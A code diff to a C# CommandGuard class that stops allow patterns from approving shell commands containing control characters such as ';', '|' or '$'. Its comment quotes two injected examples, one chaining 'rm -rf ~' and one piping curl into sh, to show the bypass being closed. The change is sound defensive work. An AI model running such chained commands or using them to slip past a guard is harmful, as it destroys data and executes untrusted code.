@@ -40,7 +40,7 @@ public sealed class CommandGuard(GuardPolicy policy)
                 return new GuardDecision(GuardVerdict.Deny, GuardRuleIds.PolicyDeny, deny.Reason);
             }
         }
-        foreach (var allow in policy.Allow)
+        foreach (var allow in IsPlainCommand(trimmed) ? policy.Allow : [])
         {
             if (Matches(allow, trimmed, onTimeout: false))
             {
@@ -61,6 +61,16 @@ public sealed class CommandGuard(GuardPolicy policy)
         }
         return findings.Result;
     }
+
+    /// <summary>
+    /// Allow patterns only ever vouch for one plain command: otherwise an unanchored "terraform"
+    /// pattern would also wave through "terraform plan; rm -rf ~" or "terraform $(curl x | sh)".
+    /// </summary>
+    private static bool IsPlainCommand(string command) =>
+        command.AsSpan().IndexOfAny(ShellControlCharacters) < 0;
+
+    private static readonly System.Buffers.SearchValues<char> ShellControlCharacters =
+        System.Buffers.SearchValues.Create(";&|\n\r`<>$");
 
     /// <summary>A pattern that runs too long counts as matching for deny (safe) and not matching for allow (also safe).</summary>
     private static bool Matches(Regex pattern, string command, bool onTimeout)
